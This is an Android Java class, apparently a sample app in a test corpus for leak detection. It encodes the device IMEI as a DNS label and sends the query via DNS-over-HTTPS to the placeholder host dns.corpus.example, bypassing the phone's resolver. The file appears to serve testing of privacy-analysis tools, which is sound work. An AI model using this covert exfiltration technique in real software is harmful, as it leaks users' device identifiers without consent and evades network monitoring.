package org.corpus;

import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A question that the phone's resolver never sees. */
public class DnsOverHttps extends Screen {
    @Override
    protected void act() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream message = new DataOutputStream(bytes);
        message.write(new byte[] {0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0});
        for (String label : new String[] {Owner.imei(this), "x", "corpus", "example"}) {
            message.writeByte(label.length());
            message.write(Net.utf8(label));
        }
        message.write(new byte[] {0, 0, 1, 0, 1});
        int flags = Base64.URL_SAFE | Base64.NO_PADDING | Base64.NO_WRAP;
        String question = Base64.encodeToString(bytes.toByteArray(), flags);
        Net.get("https://dns.corpus.example/dns-query?dns=" + question);
    }
}
